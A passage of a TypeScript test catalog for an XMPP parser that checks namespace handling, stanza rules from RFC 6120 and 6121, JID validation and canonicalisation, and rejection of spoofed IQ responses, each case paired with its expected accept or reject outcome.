    inBody(0xc3, 0xa9, 0xe2, 0x82, 0xac, 0xf0, 0x9f, 0x98, 0x80),
    accept({ body: 'é€😀' }),
  )
  add('max-code-point-bytes', src, inBody(0xf4, 0x8f, 0xbf, 0xbf), accept({ body: '\u{10ffff}' }))
}

// --- namespace abuse (Namespaces in XML 1.0; docs/security.md §1 stage 4, §2) ------------------------
{
  const add = adder('namespaces')
  const src = 'Namespaces in XML 1.0 §3, §5; docs/security.md §1 stage 4'
  add('undeclared-element-prefix', src, M('<p:x/>'), NWF)
  add('undeclared-attribute-prefix', src, "<message p:a='1'/>", NWF)
  add('undeclared-root-prefix', src, '<stream:message/>', NWF)
  add('prefix-declared-on-sibling', src, M("<a xmlns:p='urn:p'/><p:b/>"), NWF)
  add('undeclaring-a-prefix', src, M("<x xmlns:p=''/>"), NWF)
  add('rebinding-xml', src, M("<x xmlns:xml='urn:not-xml'/>"), NWF)
  add('other-prefix-to-xml-namespace', src, M(`<x xmlns:foo='${XML_NS}'/>`), NWF)
  add('declaring-xmlns-prefix', src, M("<x xmlns:xmlns='urn:x'/>"), NWF)
  add('binding-to-xmlns-namespace', src, M("<x xmlns:p='http://www.w3.org/2000/xmlns/'/>"), NWF)
  add('default-namespace-xml', src, M(`<x xmlns='${XML_NS}'/>`), NWF)
  add('element-with-xmlns-prefix', src, M('<xmlns:x/>'), NWF)
  add('two-colons-element', src, M("<a:b:c xmlns:a='urn:a'/>"), NWF)
  add('two-colons-attribute', src, M("<x xmlns:a='urn:a' a:b:c='1'/>"), NWF)
  add('leading-colon-element', src, M('<:x/>'), NWF)
  add('trailing-colon-element', src, M("<x: xmlns:x='urn:x'/>"), NWF)
  add(
    'duplicate-expanded-attributes',
    src,
    M("<x xmlns:a='urn:n' xmlns:b='urn:n' a:z='1' b:z='2'/>"),
    NWF,
  )
  add(
    'same-local-different-expansion-ok',
    src,
    M("<x xmlns='urn:x' xmlns:a='urn:n' a:z='1' z='2'/>"),
    accept((s) => same(attrKeys(firstPayload(s)), ['{urn:n}z', 'z'], 'attribute keys')),
  )
  add(
    'xml-prefix-self-binding-ok',
    src,
    `<message xmlns:xml='${XML_NS}' xml:lang='en'/>`,
    accept({ lang: 'en' }),
  )
  add(
    'declaration-scope-ends-ok',
    src,
    M("<a xmlns='urn:a'><b/></a><c/>"),
    accept((s) =>
      same(
        s.payload.map((e) => e.ns),
        ['urn:a', 'jabber:client'],
        'namespaces',
      ),
    ),
  )
  add(
    'namespace-with-reference-ok',
    src,
    "<message xmlns='jabber&#58;client'/>",
    accept({ kind: 'message' }),
  )
  // stanza identity (docs/security.md §1 stage 6, docs/semantics.md §3.2)
  const id6 = 'docs/semantics.md §3.2; RFC 6120 §4.9.3.10'
  add('server-namespace-on-client-stream', id6, "<message xmlns='jabber:server'/>", {
    reject: 'invalid-namespace',
  })
  add('component-namespace-on-client-stream', id6, "<iq xmlns='jabber:component:accept'/>", {
    reject: 'invalid-namespace',
  })
  add('unqualified-root-without-ns', id6, '<message/>', reject('invalid-namespace'), {
    options: { ns: null },
  })
  add(
    'server-namespace-on-server-stream',
    id6,
    "<message xmlns='jabber:server'/>",
    accept({ kind: 'message' }),
    { options: { ns: 'jabber:server' } },
  )
  add(
    'declared-namespace-without-ns',
    id6,
    "<presence xmlns='jabber:server'/>",
    accept({ kind: 'presence' }),
    { options: { ns: null } },
  )
  add(
    'prefixed-root-in-content-namespace',
    id6,
    "<c:message xmlns:c='jabber:client'/>",
    accept({ kind: 'message' }),
  )
  const ust = 'docs/semantics.md §3.2; RFC 6120 §4.9.3.24'
  const U = reject('unsupported-stanza-type')
  add('foreign-root-namespace', ust, "<message xmlns='urn:evil'/>", U)
  add('content-namespace-wrong-case', ust, "<message xmlns='Jabber:Client'/>", U)
  add('emoji-root-name', ust, '<😀/>', U, { note: 'U+1F600 is a NameStartChar in XML 1.0 5th ed.' })
  add(
    'client-namespace-on-server-stream',
    id6,
    "<message xmlns='jabber:client'/>",
    reject('invalid-namespace'),
    { options: { ns: 'jabber:server' } },
  )
  add('root-wrong-case', ust, '<Message/>', U)
  add('root-not-a-stanza', ust, '<body>hi</body>', U)
  add(
    'stream-features-root',
    ust,
    "<stream:features xmlns:stream='http://etherx.jabber.org/streams'/>",
    U,
  )
  add(
    'stream-header-closed',
    ust,
    "<stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams'></stream:stream>",
    U,
  )
  add(
    'body-in-foreign-namespace-is-payload',
    'docs/semantics.md §3.2',
    M("<body xmlns='urn:x'>hi</body>"),
    accept(
      asMessage((m) => same([m.body, m.payload[0]?.ns], [undefined, 'urn:x'], 'body, payload')),
    ),
  )
  add(
    'priority-in-foreign-namespace-is-payload',
    'docs/semantics.md §3.2',
    P("<priority xmlns='urn:x'>abc</priority>"),
    accept(asPresence((p) => same([p.priority, p.payload.length], [undefined, 1], 'priority'))),
  )
  add(
    'prefixed-name-local-part-starts-with-hyphen',
    'Namespaces in XML 1.0 §3 (NCName); fuzz seed -1871412632',
    M(`<p:-0x xmlns:p='urn:x'/>`),
    reject('not-well-formed'),
  )
}

// --- stanza-level violations (bad-request, RFC 6120 §8, RFC 6121) ------------------------------
{
  const add = adder('stanza-rules')
  const BR = reject('bad-request')
  const br = (path: string): Expect => reject('bad-request', { path })
  const iq8 = 'RFC 6120 §8.2.3'
  add('iq-without-id', iq8, IQ(PING, " type='get'"), br('iq@id'))
  add('iq-empty-id', iq8, IQ(PING, " type='get' id=''"), br('iq@id'))
  add('iq-without-type', iq8, IQ(PING, " id='1'"), br('iq@type'))
  add('iq-type-wrong-case', iq8, IQ(PING, " type='GET' id='1'"), br('iq@type'))
  add('iq-get-zero-payloads', iq8, IQ(''), BR)
  add('iq-get-two-payloads', iq8, IQ(PING + PING), BR)
  add('iq-set-two-payloads', iq8, IQ(PING + PING, " type='set' id='1'"), BR)
  add('iq-result-two-payloads', iq8, IQ(PING + PING, " type='result' id='1'"), BR)
  add(
    'iq-result-zero-payloads-ok',
    iq8,
    IQ('', " type='result' id='1'"),
    accept({ kind: 'iq', type: 'result', id: '1', payload: [] }),
  )
  add('iq-error-without-error', iq8, IQ('', " type='error' id='1'"), BR)
  const err = `<error type='cancel'><item-not-found xmlns='${STANZAS}'/></error>`
  add('iq-error-two-errors', iq8, IQ(err + err, " type='error' id='1'"), BR)
  add(
    'iq-error-two-other-children',
    iq8,
    IQ(`${PING}<x xmlns='urn:x'/>${err}`, " type='error' id='1'"),
    BR,
  )
  add('iq-result-with-error', 'RFC 6120 §8.3.1', IQ(err, " type='result' id='1'"), BR)
  add(
    'iq-error-with-request-payload-ok',
    iq8,
    IQ(PING + err, " type='error' id='1'"),
    accept(
      asIq((iq) =>
        same(
          [iq.payload.length, iq.error?.condition, iq.error?.type],
          [1, 'item-not-found', 'cancel'],
          'iq',
        ),
      ),
    ),
  )
  const e83 = 'RFC 6120 §8.3.2'
  add(
    'error-without-type',
    e83,
    IQ(`<error><bad-request xmlns='${STANZAS}'/></error>`, " type='error' id='1'"),
    br('iq/error@type'),
  )
  add(
    'error-with-bad-type',
    e83,
    IQ(`<error type='fatal'><bad-request xmlns='${STANZAS}'/></error>`, " type='error' id='1'"),
    br('iq/error@type'),
  )
  add(
    'error-without-condition-ok',
    e83,
    IQ("<error type='cancel'/>", " type='error' id='1'"),
    accept({ error: { type: 'cancel', condition: 'undefined-condition' } }),
  )
  add(
    'error-unknown-condition-kept-as-app',
    e83,
    IQ(`<error type='auth'><payment-required xmlns='${STANZAS}'/></error>`, " type='error' id='1'"),
    accept(
      asIq((iq) =>
        same(
          [iq.error?.condition, iq.error?.app?.name],
          ['undefined-condition', 'payment-required'],
          'error',
        ),
      ),
    ),
  )
  const p47 = 'RFC 6121 §4.7'
  add('presence-type-available', p47, "<presence type='available'/>", br('presence@type'))
  add('presence-type-empty', p47, "<presence type=''/>", br('presence@type'))
  add('presence-type-wrong-case', p47, "<presence type='Unavailable'/>", br('presence@type'))
  add('show-unknown', 'RFC 6121 §4.7.2.1', P('<show>busy</show>'), br('presence/show'))
  add('show-wrong-case', 'RFC 6121 §4.7.2.1', P('<show>Away</show>'), br('presence/show'))
  add('show-empty', 'RFC 6121 §4.7.2.1', P('<show/>'), br('presence/show'))
  add(
    'show-twice',
    'RFC 6121 §4.7.2.1',
    P('<show>away</show><show>dnd</show>'),
    br('presence/show[2]'),
  )
  add('show-with-child', 'docs/semantics.md §3.2', P('<show><b/>away</show>'), br('presence/show'))
  add(
    'show-nbsp-not-trimmed',
    'RFC 6121 §4.7.2.1',
    P('<show>\u00a0away</show>'),
    br('presence/show'),
  )
  add('show-trimmed-ok', 'RFC 6121 §4.7.2.1', P('<show> away\n</show>'), accept({ show: 'away' }))
  const p423 = 'RFC 6121 §4.7.2.3'
  for (const [id, v] of [
    ['128', '128'],
    ['minus-129', '-129'],
    ['decimal', '1.5'],
    ['exponent', '1e2'],
    ['hex', '0x1F'],
    ['empty', ''],
    ['words', 'high'],
    ['huge', '9'.repeat(400)],
  ] as const)
    add(`priority-${id}`, p423, P(`<priority>${v}</priority>`), br('presence/priority'))
  add(
    'priority-twice',
    p423,
    P('<priority>1</priority><priority>2</priority>'),
    br('presence/priority[2]'),
  )
  add('priority-127-ok', p423, P('<priority>127</priority>'), accept({ priority: 127 }))
  add('priority-minus-128-ok', p423, P('<priority>-128</priority>'), accept({ priority: -128 }))
  add('priority-plus-007-ok', p423, P('<priority> +007 </priority>'), accept({ priority: 7 }))
  add(
    'priority-minus-zero-ok',
    p423,
    P('<priority>-0</priority>'),
    accept(asPresence((p) => same(Object.is(p.priority, 0), true, 'priority is +0'))),
    { note: 'Number("-0") is -0, which encode → decode would turn into +0' },
  )
  add(
    'status-twice-one-language',
    'RFC 6121 §4.7.2.2',
    P('<status>a</status><status>b</status>'),
    br('presence/status[2]'),
  )
  const m5 = 'RFC 6121 §5.2'
  add('message-error-without-error', 'RFC 6120 §8.3.1', "<message type='error'/>", BR)
  add('error-in-chat-message', 'RFC 6120 §8.3.1', M(err, " type='chat'"), BR)
  add('two-bodies-no-language', m5, M('<body>a</body><body>b</body>'), br('message/body[2]'))
  add(
    'two-bodies-same-language-case-insensitive',
    m5,
    M("<body xml:lang='en'>a</body><body xml:lang='EN'>b</body>"),
    br('message/body[2]'),
  )
  add(
    'body-explicit-stanza-language',
    m5,
    M("<body>a</body><body xml:lang='de'>b</body>", " xml:lang='de'"),
    br('message/body[2]'),
  )
  add(
    'two-bodies-empty-language-tag',
    m5,
    M("<body>a</body><body xml:lang=''>b</body>"),
    br('message/body[2]'),
  )
  add('two-subjects', m5, M('<subject>a</subject><subject>b</subject>'), br('message/subject[2]'))
  add('two-threads', 'RFC 6121 §5.2.5', M('<thread>a</thread><thread>b</thread>'), BR)
  add(
    'body-with-child-element',
    'docs/semantics.md §3.2',
    M('<body>a<b/></body>'),
    br('message/body'),
  )
  add('text-directly-in-stanza', 'docs/semantics.md §3.2', M('hello'), BR)
  add('nbsp-directly-in-stanza', 'docs/semantics.md §3.2', M('&#160;'), BR)
  add('lang-not-bcp47', 'RFC 6120 §8.1.5', "<message xml:lang='en_US'/>", br('message@xml:lang'))
  add('lang-too-long-subtag', 'RFC 6120 §8.1.5', "<message xml:lang='abcdefghi'/>", BR)
}

// --- JIDs that must be rejected (RFC 7622, jid-malformed at the right path) --------------------
{
  const add = adder('jid-reject')
  const src = 'RFC 7622 §3'
  const jm = (path: string): Expect => reject('jid-malformed', { path })
  for (const [id, jid] of [
    ['empty', ''],
    ['empty-local', '@example.com'],
    ['empty-domain', 'juliet@'],
    ['empty-resource', 'juliet@example.com/'],
    ['space-in-local', 'jul iet@example.com'],
    ['space-in-domain', 'juliet@exa mple.com'],
    ['quote-in-local', 'a&quot;b@example.com'],
    ['colon-in-local', 'a:b@example.com'],
    ['apostrophe-in-local', 'a&apos;b@example.com'],
    ['lt-in-local', 'a&lt;b@example.com'],
    ['ampersand-in-local', 'a&amp;b@example.com'],
    ['trailing-hyphen-label', 'juliet@example-.com'],
    ['a-label-of-disallowed-emoji', 'juliet@xn--ls8h.la'],
    ['ipv4-in-brackets', '[192.0.2.1]'],
    ['two-at-signs', 'a@b@example.com'],
    ['underscore-in-domain', 'juliet@ex_ample.com'],
    ['leading-hyphen-label', 'juliet@-example.com'],
    ['empty-label', 'juliet@example..com'],
    ['two-trailing-dots', 'juliet@example.com..'],
    ['label-64-octets', `juliet@${'a'.repeat(64)}.com`],
    ['digits-not-dotted-quad', '1.2.3'],
    ['ipv4-octet-256', '256.1.1.1'],
    ['ipv4-leading-zero', '01.2.3.4'],
    ['newline-normalized-to-space', 'juliet@example.com\n'],
    ['space-reference-in-domain', 'juliet@example.com&#x20;'],
    ['ipv6-unterminated', '[::1'],
    ['ipv6-two-double-colons', '[1::2::3]'],
    ['ipv6-zone-id', '[fe80::1%25eth0]'],
    ['local-1024-octets', `${'a'.repeat(1024)}@example.com`],
    ['local-two-byte-1024-octets', `${'é'.repeat(512)}@example.com`],
    ['resource-1024-octets', `juliet@example.com/${'r'.repeat(1024)}`],
    ['domain-1025-octets', [...Array.from({ length: 16 }, () => 'a'.repeat(63)), 'a'].join('.')],
    ['compatibility-char-in-local', '\u2163@example.com'],
    ['symbol-in-local', '\u2603@example.com'],
    ['control-in-resource', 'juliet@example.com/a&#x7F;b'],
    ['ideographic-space-in-local', 'a\u3000b@example.com'],
  ] as const)
    add(id, src, to(jid), jm('message@to'))
  add('presence-from', src, "<presence from='@example.com'/>", jm('presence@from'))
  add('iq-to', src, IQ(PING, " type='get' id='1' to='a@@b'"), jm('iq@to'))
  add(
    'error-by',
    'RFC 6120 §8.3.2',
    IQ(
      `<error type='cancel' by='a@'><bad-request xmlns='${STANZAS}'/></error>`,
      " type='error' id='1'",
    ),
    jm('iq/error@by'),
  )
}

// --- JIDs that must be accepted, stored canonical (RFC 7622; docs/semantics.md §1) ------------------
{
  const add = adder('jid-accept')
  const src = 'RFC 7622 §3; docs/semantics.md §1'
  for (const [id, jid, canonical] of [
    ['uppercase-domain', 'juliet@EXAMPLE.COM', 'juliet@example.com'],
    ['uppercase-local', 'Juliet@example.com', 'juliet@example.com'],
    ['fullwidth-local', '\uff4a\uff55\uff4c\uff49\uff45\uff54@example.com', 'juliet@example.com'],
    [
      'fullwidth-domain',
      'juliet@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.com',
      'juliet@example.com',
    ],
    ['trailing-dot', 'juliet@example.com.', 'juliet@example.com'],
    ['resource-case-kept', 'Romeo@Example.NET/Orchard', 'romeo@example.net/Orchard'],
    ['resource-with-at-slash-space', 'a@b.example/c d@e/f', 'a@b.example/c d@e/f'],
    ['slash-before-at', 'a.example/b@c', 'a.example/b@c'],
    ['ipv6-literal', '[2001:db8::1]', '[2001:db8::1]'],
    ['ipv6-uppercase-hex', 'juliet@[2001:DB8::1]', 'juliet@[2001:db8::1]'],
    ['ipv4-mapped-ipv6', '[::ffff:192.0.2.1]', '[::ffff:192.0.2.1]'],
    ['ipv6-uncompressed', '[2001:db8:0:0:0:0:0:1]', '[2001:db8::1]'],
    ['ipv6-leading-zeros', '[2001:0db8::0:1]', '[2001:db8::1]'],
    ['ipv6-loopback-with-resource', '[::1]/res', '[::1]/res'],
    ['uppercase-a-label', 'XN--MNCHEN-3YA.de', 'münchen.de'],
    [
      'octets-counted-after-width-mapping',
      `${'\uff21'.repeat(400)}@example.com`,
      `${'a'.repeat(400)}@example.com`,
    ],
    ['ipv4-literal', 'juliet@192.0.2.1', 'juliet@192.0.2.1'],
    ['a-label-to-u-label', 'juliet@xn--mnchen-3ya.de', 'juliet@münchen.de'],
    ['uppercase-u-label', 'juliet@MÜNCHEN.de', 'juliet@münchen.de'],
    ['nfc-local', 'e\u0301@example.com', '\u00e9@example.com'],
    ['sharp-s-kept', 'stra\u00dfe@example.com', 'stra\u00dfe@example.com'],
    ['local-1023-octets', `${'a'.repeat(1023)}@example.com`, `${'a'.repeat(1023)}@example.com`],
    [
      'resource-1023-octets',
      `juliet@example.com/${'r'.repeat(1023)}`,
      `juliet@example.com/${'r'.repeat(1023)}`,
    ],
    [
      'domain-1023-octets',
      Array.from({ length: 16 }, () => 'a'.repeat(63)).join('.'),
      Array.from({ length: 16 }, () => 'a'.repeat(63)).join('.'),
    ],
    ['nbsp-in-resource-mapped', 'juliet@example.com/a\u00a0b', 'juliet@example.com/a b'],
    ['resource-leading-space', 'juliet@example.com/ foo', 'juliet@example.com/ foo'],
  ] as const)
    add(id, src, to(jid), accept({ to: canonical }))
  add(
    'from-canonical-on-presence',
    src,
    "<presence from='Nurse@Example.COM./Kitchen'/>",
    accept({ from: 'nurse@example.com/Kitchen' }),
  )
}

// --- valid edge cases that must be accepted (RFC 6120 §11.4, docs/semantics.md §3.2) ----------------
{
  const add = adder('valid')
  const src = 'docs/semantics.md §3.2'
  add('empty-body-self-closing', 'docs/semantics.md §0', M('<body/>'), accept({ body: '' }))
  add('empty-body-open-close', 'docs/semantics.md §0', body(''), accept({ body: '' }))
  add('emoji-body', src, body('🌹👩🏽‍🚀🇫🇷'), accept({ body: '🌹👩🏽‍🚀🇫🇷' }))
  add(
    'five-entities',
    'XML 1.0 §4.6',
    body('&lt;&gt;&amp;&quot;&apos;'),
    accept({ body: '<>&"\'' }),
  )
  add('entities-in-attribute', 'XML 1.0 §4.6', "<message id='&lt;&amp;&quot;&apos;'/>", {
    accept: { id: '<&"\'' },
  })
  add(
    'cdata-body',
    'XML 1.0 §2.7',
    body('<![CDATA[<b>&amp;</b>]]>'),
    accept({ body: '<b>&amp;</b>' }),
  )
  add(
    'cdata-mixed',
    'XML 1.0 §2.7',
    body('a<![CDATA[b]]>&#99;<![CDATA[]]>d'),
    accept({ body: 'abcd' }),
  )
  add(
    'gt-and-brackets-in-text',
    'XML 1.0 §2.4',
    body('a > b ]] ]>'),
    accept({ body: 'a > b ]] ]>' }),
  )
  add('gt-in-attribute', 'XML 1.0 §3.1', "<message id='a>b'/>", accept({ id: 'a>b' }))
  add('quote-nesting', 'XML 1.0 §3.1', `<message id="it's"/>`, accept({ id: "it's" }))
  add('crlf-normalized', 'XML 1.0 §2.11', body('a\r\nb\rc'), accept({ body: 'a\nb\nc' }))
  add('attribute-whitespace-normalized', 'XML 1.0 §3.3.3', "<message id='a\tb\nc'/>", {
    accept: { id: 'a b c' },
  })
  add(
    'unknown-extension-preserved',
    'RFC 6120 §8.4',
    M("<body>x</body><x xmlns='urn:ext' a='1'><y>t</y> <z/></x>"),
    accept({
      body: 'x',
      payload: [
        {
          name: 'x',
          ns: 'urn:ext',
          attrs: { a: '1' },
          children: [{ name: 'y', ns: 'urn:ext', children: ['t'] }, ' ', { name: 'z' }],
        },
      ],
    }),
  )
  add(
    'payload-order-kept',
    'RFC 6120 §8.4',
    M("<a xmlns='urn:1'/><body>x</body><b xmlns='urn:2'/><c xmlns='urn:3'/>"),
    accept((s) =>
      same(
        s.payload.map((e) => e.name),
        ['a', 'b', 'c'],
        'payload order',
      ),
    ),
  )
  add(
    'other-language-body-in-payload',
    'RFC 6121 §5.2.3',
    M("<body>hi</body><body xml:lang='de'>hallo</body>", " xml:lang='en'"),
    accept(
      asMessage((m) =>
        same([m.body, m.lang, m.payload[0]?.attrs['xml:lang']], ['hi', 'en', 'de'], 'bodies'),
      ),
    ),
  )
  add(
    'body-tagged-with-stanza-language',
    'RFC 6121 §5.2.3',
    M("<body xml:lang='EN'>hi</body>", " xml:lang='en'"),
    accept({ body: 'hi', payload: [] }),
  )
  add('empty-xml-lang', 'RFC 6120 §8.1.5', "<message xml:lang=''/>", accept({ lang: '' }))
  add('grandfathered-lang', 'RFC 5646 §2.2.8', "<message xml:lang='i-klingon'/>", {
    accept: { lang: 'i-klingon' },
  })
  add('script-region-lang', 'RFC 5646 §2.1', "<message xml:lang='zh-Hant-TW'/>", {
    accept: { lang: 'zh-Hant-TW' },
  })
  add('private-use-lang', 'RFC 5646 §2.2.7', "<message xml:lang='x-private'/>", {
    accept: { lang: 'x-private' },
  })
  add(
    'whitespace-between-children',
    'RFC 6120 §11.7',
    '<presence>\n  <show>dnd</show>\n\t<status>busy</status>\r\n  <priority>5</priority>\n</presence>',
    accept({ show: 'dnd', status: 'busy', priority: 5, payload: [] }),
  )
  add(
    'space-reference-directly-in-stanza',
    'docs/semantics.md §3.2',
    M('&#32;<![CDATA[ ]]>'),
    accept({ kind: 'message', payload: [] }),
  )
  add(
    'body-extra-attribute-dropped',
    'docs/semantics.md §3.2',
    M("<body foo='1'>hi</body>"),
    accept({ body: 'hi', payload: [] }),
  )
  add('whitespace-around-root', 'RFC 6120 §11.7', ' \n<message/>\n ', accept({ kind: 'message' }))
  add('spaces-in-tags', 'XML 1.0 §3.1', "<message id = '1' ></message >", accept({ id: '1' }))
  add('unknown-message-type', 'RFC 6121 §5.2.2', "<message type='bogus'/>", {
    accept: (s) => same('type' in s, false, 'type present'),
  })
  add(
    'unknown-stanza-attributes-ignored',
    'RFC 6120 §11.4',
    "<message foo='bar' xmlns:p='urn:p' p:x='1' id='1'/>",
    accept({ kind: 'message', id: '1' }),
  )
  add(
    'thread-with-parent',
    'XEP-0201',
    M("<thread parent='p1'>t1</thread>"),
    accept({ thread: 't1', parentThread: 'p1' }),
  )
  add(
    'error-text-and-lang',
    'RFC 6120 §8.3.2',
    M(
      `<error type='modify'><bad-request xmlns='${STANZAS}'/><text xmlns='${STANZAS}' xml:lang='en'>why</text></error>`,
      " type='error'",
    ),
    accept({ error: { type: 'modify', condition: 'bad-request', text: 'why', lang: 'en' } }),
  )
  add(
    'astral-name-characters',
    'XML 1.0 §2.3',
    M("<𐀀z xmlns='urn:x' é='1'/>"),
    accept((s) => same([firstPayload(s).name, attrKeys(firstPayload(s))], ['𐀀z', ['é']], 'names')),
  )
  add(
    'component-stream-client-error',
    'docs/semantics.md §3.2 (jabber:client <error> on component streams)',
    "<message xmlns='jabber:component:accept' type='error'><error xmlns='jabber:client' type='cancel'/></message>",
    accept({ type: 'error', error: { type: 'cancel', condition: 'undefined-condition' } }),
    { options: { ns: 'jabber:component:accept' } },
  )
  add(
    'whitespace-around-iq-payload',
    'RFC 6120 §8.2.3; §11.7',
    IQ(`\n  ${PING}\n`),
    accept({ kind: 'iq', type: 'get', payload: [{ name: 'ping', ns: 'urn:xmpp:ping' }] }),
  )
  add(
    'emoji-element-name',
    'XML 1.0 §2.3 (5th ed.)',
    M("<😀 xmlns='urn:x'/>"),
    accept((s) => same(firstPayload(s).name, '😀', 'name')),
  )
  add(
    'component-stream',
    'XEP-0114',
    "<iq xmlns='jabber:component:accept' type='result' id='1'/>",
    accept({ kind: 'iq', type: 'result' }),
    { options: { ns: 'jabber:component:accept' } },
  )
}

// --- IQ correlation (docs/security.md §6; spoofing in depth: spec/rx/request.spec.ts) ---------------
{
  const add = adder('correlation')
  const src = 'docs/security.md §6; CVE-2013-6483'
  const ok = accept({ kind: 'iq' })
  const cor = (settles: boolean, to?: string, acceptOwnDomain?: boolean): More => ({
    correlation: {
      settles,
      ...(to === undefined ? {} : { to }),
      ...(acceptOwnDomain === undefined ? {} : { acceptOwnDomain }),
    },
  })
  const PEER = 'romeo@example.net/orchard'
  add(
    'result-from-addressee',
    src,
    `<iq type='result' id='c1' from='${PEER}'/>`,
    ok,
    cor(true, PEER),
  )
  add(
    'error-from-addressee',
    src,
    IQ(
      `<error type='cancel'><item-not-found xmlns='${STANZAS}'/></error>`,
      ` type='error' id='c1' from='${PEER}'`,
    ),
    ok,
    cor(true, PEER),
  )
  add(
    'result-from-addressee-noncanonical',
    'docs/security.md §6 (canonical from)',
    "<iq type='result' id='c1' from='Romeo@EXAMPLE.net./orchard'/>",
    ok,
    cor(true, PEER),
  )
  add(
    'result-from-mallory',
    src,
    "<iq type='result' id='c1' from='mallory@evil.example/x'/>",
    ok,
    cor(false, PEER),
  )
  add(
    'result-from-bare-of-full',
    src,
    "<iq type='result' id='c1' from='romeo@example.net'/>",
    ok,
    cor(false, PEER),
  )
  add(
    'result-resource-case-differs',
    src,
    "<iq type='result' id='c1' from='romeo@example.net/Orchard'/>",
    ok,
    cor(false, PEER),
  )
  add('result-without-from-to-peer', src, "<iq type='result' id='c1'/>", ok, cor(false, PEER))
  add(
    'message-with-pending-id',
    'CVE-2024-46957',
    `<message type='chat' id='c1' from='${PEER}'><body>hi</body></message>`,
    accept({ kind: 'message' }),
    cor(false, PEER),
  )
  add(
    'get-with-pending-id',
    'CVE-2024-46957',
    IQ(PING, ` type='get' id='c1' from='${PEER}'`),
    ok,
    cor(false, PEER),
  )
  add('server-result-no-from', src, "<iq type='result' id='c1'/>", ok, cor(true))
  add(
    'server-result-from-bare-me',
    src,
    "<iq type='result' id='c1' from='juliet@example.com'/>",
    ok,
    cor(true),
  )
  add(
    'server-result-from-domain',
    src,
    "<iq type='result' id='c1' from='example.com'/>",
    ok,
    cor(false),
  )
  add(
    'server-result-from-domain-compat',
    src,
    "<iq type='result' id='c1' from='example.com'/>",
    ok,
    cor(true, undefined, true),
  )
  add(
    'server-result-from-other-resource',
    src,
    "<iq type='result' id='c1' from='juliet@example.com/chamber'/>",
    ok,
    cor(false),
  )
  add(
    'result-from-unparsable',
    'docs/security.md §6 (an unparsable from never matches)',
    "<iq type='result' id='c1' from='romeo@@example.net'/>",
    reject('jid-malformed', { path: 'iq@from' }),
  )
  add(
    'bare-me-result-no-from',
    src,
    "<iq type='result' id='c1'/>",
    ok,
    cor(true, 'juliet@example.com'),
  )
}

export const catalog: ReadonlyArray<Case> = cases
